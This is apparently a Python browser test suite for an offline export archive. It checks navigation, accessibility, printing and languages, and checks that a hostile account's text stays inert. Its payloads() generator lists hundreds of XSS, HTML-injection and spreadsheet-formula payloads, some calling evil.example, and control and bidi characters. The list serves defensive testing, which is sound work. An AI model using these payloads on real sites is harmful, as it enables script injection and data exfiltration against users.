#!/usr/bin/python3
"""Proves in a browser what a person gets who unpacks an archive and opens index.html.

From file://, with scripts disabled: links alone lead to every page, every record and every file that may be opened; nothing outside the folder
is asked for, nothing is complained about, every picture decodes. axe-core finds nothing to mend on any kind of page, in light and in dark. The
keyboard gets everywhere. index.html alone says what to do. And an account full of markup leaves none in the pages.
"""

import json
import shutil
import sys
from pathlib import Path

sys.dont_write_bytecode = True
import chromium  # noqa: E402
import harness  # noqa: E402
from harness import complete, root, scratch, troubled  # noqa: E402
from pagewalk import AXE, DECODED, Walk, axe  # noqa: E402

LOADED = """Promise.all([...document.querySelectorAll('video, audio')].map(one => new Promise(done => {
    one.addEventListener('loadeddata', () => done(one.duration > 0 ? '' : one.currentSrc));
    one.addEventListener('error', () => done(one.currentSrc + ': ' + one.error.message));
    one.preload = 'auto';
    one.load(); })))"""
OPENED = ("image/", "audio/", "video/", "text/plain")
NEVER = ("image/svg+xml",)

# What the pages are made of: whatever else stands in one came from the person's words.
ELEMENTS = """HTML HEAD META TITLE LINK BODY A HEADER P NAV UL LI MAIN H1 H2 H3 SECTION DL DIV DT DD BDI TIME SPAN CODE IMG VIDEO AUDIO BR
 DETAILS SUMMARY FOOTER OL PRE STRONG""".split()
ATTRIBUTES = """lang dir charset http-equiv content name rel href class id tabindex aria-label aria-labelledby aria-current datetime src alt
 width height loading decoding controls preload role""".split()
PARTS = "[...document.querySelectorAll('*')].map(one => [one.tagName, ...one.getAttributeNames()])"


class Pages(chromium.Case):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.walks = {}

    def walk(self, archive):
        if archive not in self.walks:
            self.browser.scripts(False)
            walk = self.walks[archive] = Walk(self.browser, archive.tree)
            self.browser.settle()
            walk.requests, walk.complaints = list(self.browser.requests), list(self.browser.complaints)
            self.browser.scripts(True)
        return self.walks[archive]

    def each(self):
        for archive in (complete(), troubled()):
            with self.subTest(archive.stem):
                yield archive, self.walk(archive)

    def test_every_page_is_reached(self):
        for archive, walk in self.each():
            there = {str(one.relative_to(archive.tree)) for one in archive.tree.rglob("*.html") if "data" not in one.parts}
            self.assertEqual(set(walk.pages), there)
            self.assertIn("index.html", there)

    def test_every_record_is_reached(self):
        for archive, walk in self.each():
            for category in archive.export["categories"]:
                shown = sum(count for name, count in walk.records.items()
                            if name.startswith(f"viewer/{category['id']}-"))
                self.assertEqual(shown, category["records"]["delivered"], category["id"])
            for name, count in walk.records.items():
                self.assertLessEqual(count, 60, name)

    def test_files(self):
        for archive, walk in self.each():
            for name in walk.opened | walk.named:
                self.assertTrue((archive.tree / name).is_file(), name)
            text = "".join((archive.tree / name).read_text(encoding="utf-8") for name in walk.pages)
            for category in archive.export["categories"]:
                for record in archive.records(category):
                    for file in record.get("files", []):
                        self.check_file(file, walk, text)

    def check_file(self, file, walk, text):
        if "path" not in file:
            return
        opens = file["type"].startswith(OPENED) and file["type"] not in NEVER
        self.assertEqual(file["path"] in walk.opened, opens, file["path"])
        self.assertIn(file["path"], text)

    def test_nothing_leaves_the_folder(self):
        for archive, walk in self.each():
            base = archive.tree.resolve().as_uri() + "/"  # the signs of the browser's own players are data:
            self.assertEqual([one for one in walk.requests if not one.startswith((base, "data:"))], [])
            self.assertEqual(walk.complaints, [])
            self.assertEqual([one for one in walk.outside if not one.startswith("https://claakit.example/")], [])
            self.assertEqual((walk.beyond, [one for one in walk.named if one.startswith("../")]), (set(), []))

    def test_every_picture_decodes(self):
        shown = 0
        for archive, walk in self.each():
            for name in walk.pages:
                self.browser.go(archive.tree / name)
                done = self.browser.run(DECODED)
                self.assertEqual([one for one in done if one], [], name)
                shown += len(done)
        self.assertGreater(shown, 50)
        self.assertEqual(self.browser.complaints, [])

    def test_every_video_and_sound_decodes(self):
        played = 0
        walk = self.walk(complete())
        for name in walk.pages:
            self.browser.go(complete().tree / name)
            done = self.browser.run(LOADED)
            self.assertEqual([one for one in done if one], [], name)
            played += len(done)
        self.assertGreater(played, 3)

    def kinds(self):
        """Pages of each kind, the shortest ones: index.html, galleries, lists with and without files, links and words, and the others."""
        pages = sorted(self.walk(complete()).pages)
        shown = [[name for name in pages if name.startswith(f"viewer/{kind}-")][-1]
                 for kind in ("outputs", "uploads", "profile", "prompts", "boards", "support")]
        return [complete().tree / name for name in ("index.html", "viewer/privacy.html", "viewer/check.html", "viewer/withheld.0001.html", *shown)] + \
            [troubled().tree / name for name in ("index.html", "viewer/missing.0001.html")]

    def test_accessible(self):
        done = 0
        for page in self.kinds():
            for dark in (False, True):
                self.browser.look(dark=dark, width=390 if dark else 1280)
                self.browser.go(page)
                self.browser.run(axe())
                self.assertEqual(self.browser.run(AXE), [], f"{page.name} {'dark' if dark else 'light'}")
                done += 1
        self.assertEqual(done, 24)

    def test_structure(self):
        """Of every page: one h1, headings in order, a title, and nothing that the phone has to scroll for sideways."""
        self.browser.look(width=360, height=640)
        for archive, walk in self.each():
            for name in walk.pages:
                self.browser.go(archive.tree / name)
                levels = self.browser.run("[...document.querySelectorAll('h1,h2,h3,h4')].map(one => +one.tagName[1])")
                self.assertEqual((levels[0], levels.count(1)), (1, 1), name)
                self.assertTrue(all(after - before <= 1 for before, after in zip(levels, levels[1:])), name)
                self.assertLessEqual(self.browser.run("document.documentElement.scrollWidth"), 360, name)

    def test_alone(self):
        self.browser.scripts(False)
        shown = "getComputedStyle(document.querySelector('.unpack')).display !== 'none'"
        self.browser.go(complete().tree / "index.html")
        self.assertFalse(self.browser.run(shown))
        place = scratch("alone")
        shutil.copy(complete().tree / "index.html", place)
        self.browser.go(place / "index.html")
        self.assertTrue(self.browser.run(shown))

    def test_print(self):
        """On paper nothing that is for a screen, and no command that is cut off."""
        shown = "[...document.querySelectorAll('nav, summary, video, audio')].map(one => getComputedStyle(one).display)"
        cut = "[...document.querySelectorAll('pre')].map(one => one.scrollWidth > one.clientWidth)"
        self.browser.call("Emulation.setDeviceMetricsOverride", width=600, height=900, deviceScaleFactor=1, mobile=False)
        self.browser.call("Emulation.setEmulatedMedia", media="print")
        self.addCleanup(self.browser.call, "Emulation.setEmulatedMedia", media="")
        self.browser.go(complete().tree / "viewer/outputs-0001.html")
        self.assertEqual(set(self.browser.run(shown)), {"none"})
        self.browser.go(complete().tree / "viewer/check.html")
        self.assertEqual(set(self.browser.run(cut)), {False})

    def test_keyboard(self):
        self.browser.go(complete().tree / "viewer/outputs-0001.html")
        where = "[document.activeElement.className, document.activeElement.tagName, !!document.activeElement.closest('nav'), " \
                "!!document.activeElement.closest('.card'), getComputedStyle(document.activeElement).outlineStyle]"
        steps = []
        for _ in range(60):
            self.browser.press("Tab", 9)
            steps.append(self.browser.run(where))
        self.assertEqual(steps[0][:2], ["skip", "A"])
        self.assertTrue(steps[1][2])
        self.assertTrue(any(one[3] and one[1] == "A" for one in steps))
        self.assertTrue(any(one[1] == "SUMMARY" for one in steps))
        self.assertEqual([one for one in steps if one[4] == "none" and one[1] not in ("BODY", "AUDIO", "VIDEO")], [])
        self.browser.go(complete().tree / "index.html")
        self.browser.press("Tab", 9)
        self.browser.press("Enter", 13, "\r")
        self.assertEqual(self.browser.run("document.activeElement.id"), "main")

    def test_languages(self):
        for language, direction in (("de", "ltr"), ("ar", "rtl"), ("ja", "ltr")):
            archive = harness.export("12", description=speaking(language))
            self.browser.go(archive.tree / "index.html")
            self.assertEqual(self.browser.run("[document.documentElement.lang, document.documentElement.dir]"), [language, direction])
            spacing = self.browser.run("getComputedStyle(document.querySelector('h1')).letterSpacing")
            self.assertEqual(spacing == "normal", direction == "rtl", "letters of a script that joins them stay joined")
            self.browser.look(width=360)
            self.assertLessEqual(self.browser.run("document.documentElement.scrollWidth"), 360, language)


# ---- an account that means harm ----------------------------------------------------------------------------

def payloads():
    """Several hundred texts that do something where they are not taken for text."""
    say = "alert(1)", "console.log(1)", "fetch('//evil.example/')", "document.title='gone'"
    for code in say:
        for shape in ("<script>{}</script>", "</title><script>{}</script>", "</bdi></li></ul><script>{}</script>", "<img src=x onerror={}>",
                      "\"><img src=x onerror={}>", "'><svg onload={}>", "\" onmouseover=\"{}", "' autofocus onfocus='{}", "<svg><script>{}</script></svg>",
                      "<math><mtext><script>{}</script>", "javascript:{}", "<a href=\"javascript:{}\">x</a>", "<iframe srcdoc=\"<script>{}</script>\">",
                      "<body onload={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<object data=\"javascript:{}\">",
                      "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<!--><script>{}</script>", "<![CDATA[<script>{}</script>]]>",
                      "</style><script>{}</script>", "</textarea><script>{}</script>", "<noscript><p title=\"</noscript><script>{}</script>\">",
                      "{{{{constructor.constructor('{}')()}}}}", "<template><script>{}</script></template>", "<ScRiPt\t>{}</sCrIpT\n>",
                      "<scr<script>ipt>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "<x onclick={}>y</x>"):
            yield shape.format(code)
    for text in ("<style>*{display:none}</style>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
                 "<form action=//evil.example/><input autofocus></form>", "<img src=//evil.example/x.png>", "<plaintext>", "<xmp>", "-->", "<!--",
                 "&", "&amp", "&#0;", "&#x202e;", "\"", "'", "`", "<", ">", "</", "<a", "=1+1", "+1", "-1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")",
                 "a" + "\u0301" * 400, "\ufdfd" * 30, "x" * 3000, "../" * 30, "%00%3cscript%3e", "\ud7ff\ue000", "\U0001f468\u200d\U0001f469"):
        yield text
    for number in (*range(1, 32), 127, *range(128, 160), 0x200e, 0x200f, 0x2028, 0x2029, *range(0x202a, 0x202f), *range(0x2060, 0x2070), 0xfeff,
                   0xfffd, 0xffff, 0xe0041, 0x10ffff):
        yield f"be{chr(number)}<b>hind</b>"


def hostile():
    """The minimal service with a person whose every word is one of the payloads."""
    texts = list(payloads())
    folder = scratch("hostile") / "minimal"
    shutil.copytree(root() / "fixtures/minimal", folder)
    people, pictures = folder / "store/people/12", folder / "store/pictures/12"
    for old in people.glob("*.json"):
        old.unlink()
    def put(name, value):
        (people / name).write_text(json.dumps(value), encoding="utf-8")
    put("notes.json", {"next": None, "items": [{"id": text if len(text) < 100 else text[:100], "owner": 12, "text": text, "written": "2026-01-01T00:00:00Z", "kept": {text: [text, {}]}}
                                               for text in dict.fromkeys(texts)]})
    put("pictures.json", {"items": [{"id": f"p{number}", "owner": 12, "name": text, "taken": "2026-01-01T00:00:00Z"}
                                    for number, text in enumerate(texts)]})
    for number in range(len(texts)):
        shutil.copy(root() / "fixtures/minimal/store/pictures/12/a.png", pictures / f"p{number}.png")
    service = json.loads((folder / "service.json").read_text(encoding="utf-8"))
    for category in service["categories"]:
        if category["id"] == "notes":
            category["keep"] = ["/kept"]
        if category["id"] == "pictures":
            category["media"][0].pop("size")
    (folder / "service.json").write_text(json.dumps(service), encoding="utf-8")
    return folder / "service.json", len(set(texts)), len(texts)


def speaking(language):
    """The minimal service, as if it spoke LANGUAGE."""
    folder = scratch("speaking") / "minimal"
    shutil.copytree(root() / "fixtures/minimal", folder)
    texts, service = (json.loads((folder / name).read_text(encoding="utf-8")) for name in ("privacy/en.json", "service.json"))
    texts["language"] = language
    service["service"]["languages"] = [language]
    (folder / f"privacy/{language}.json").write_text(json.dumps(texts), encoding="utf-8")
    (folder / "service.json").write_text(json.dumps(service), encoding="utf-8")
    return folder / "service.json"


class Hostile(chromium.Case):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.service, *cls.counts = hostile()
        cls.archive = harness.export("12", "--verbose", description=cls.service)

    def check_told(self, text):
        """What goes to a terminal or into a log moves no cursor and turns no direction."""
        for letter in text:
            self.assertFalse(ord(letter) < 32 and letter != "\n" or 0x7f <= ord(letter) < 0xa0 or letter in "\u2028\u2029\u202a\u202b\u202c\u202d\u202e"
                             "\u2066\u2067\u2068\u2069", f"U+{ord(letter):04X}")

    def test_terminals_and_logs(self):
        archive = self.archive
        told = archive.run.out + archive.run.err + archive.report_path.read_text(encoding="utf-8") + archive.events_path.read_text(encoding="utf-8")
        words = [("verify", archive.zip), ("inspect", archive.zip), ("inspect", archive.zip, "--entries"), ("plan", "-s", self.service, "-u", "12"),
                 ("probe", self.service, "-u", "12"), ("export", "-s", self.service, "-u", "\u001b[31m\u202e", "-k", harness.secret_key(), "-o", scratch("none"))]
        notes = archive.records(next(one for one in archive.export["categories"] if one["id"] == "notes"))
        words += [("inspect", archive.zip, "--record", f"notes/{note['id']}") for note in notes[::9] if "\0" not in note["id"]]
        for one in words:
            run = harness.holdall(*one)
            told += run.out + run.err
        self.assertGreater(len(told), 20_000)
        self.check_told(told)

    def test_nothing_of_it_lives(self):
        archive, (notes, pictures) = self.archive, self.counts
        self.assertGreater(notes, 200)
        walk = Walk(self.browser, archive.tree)
        self.browser.settle()
        self.assertEqual(self.browser.complaints, [])
        base = archive.tree.resolve().as_uri() + "/"
        self.assertEqual([one for one in self.browser.requests if not one.startswith(base)], [])
        self.assertEqual((walk.outside, walk.beyond), (set(), set()))
        shown = sum(count for name, count in walk.records.items() if "/notes-" in name)
        self.assertEqual((shown, sum(count for name, count in walk.records.items() if "/pictures-" in name)), (notes, pictures))
        for name in walk.pages:
            self.check_page(archive.tree / name)

    def check_page(self, page):
        self.browser.go(page)
        for element, *attributes in self.browser.run(PARTS):
            self.assertIn(element, ELEMENTS, page.name)
            self.assertEqual(set(attributes) - set(ATTRIBUTES), set(), f"{page.name}: {element}")
        for letter in page.read_text(encoding="utf-8"):
            self.assertFalse(ord(letter) < 32 and letter not in "\n\t" or 0x7f <= ord(letter) < 0xa0 or letter in
                             "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", f"{page.name}: U+{ord(letter):04X}")
        self.browser.look(width=360, height=640)
        self.assertLessEqual(self.browser.run("document.documentElement.scrollWidth"), 360, page.name)
        self.browser.look()


if __name__ == "__main__":
    harness.main()
